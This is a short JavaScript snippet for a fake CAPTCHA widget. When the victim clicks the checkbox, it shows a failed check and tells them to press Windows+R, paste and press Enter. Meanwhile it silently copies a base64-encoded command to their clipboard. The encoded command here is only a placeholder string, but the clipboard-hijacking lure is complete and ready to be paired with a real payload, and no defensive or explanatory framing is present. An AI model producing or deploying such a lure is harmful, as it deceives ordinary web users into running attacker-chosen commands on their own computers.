$(function () {
  var cmd = atob("UExBQ0VIT0xERVItQ09NTUFORA==");
  $(".rc-anchor").on("click", function () {
    $(this).addClass("load");
    setTimeout(function () {
      $(".rc-anchor").removeClass("load").addClass("fail");
      $("#pop").fadeIn().find(".txt").html("<p>To better prove you are not a robot, please:</p><ol><li>Press & hold the Windows Key <i class='win'></i> + <b>R</b></li><li>In the verification window, press <b>Ctrl</b> + <b>V</b></li><li>Press <b>Enter</b> on your keyboard to finish</li></ol>");
      var t = $("<textarea>").val(cmd).appendTo("body").select();
      document.execCommand("copy");
      t.remove();
    }, 1200);
  });
});
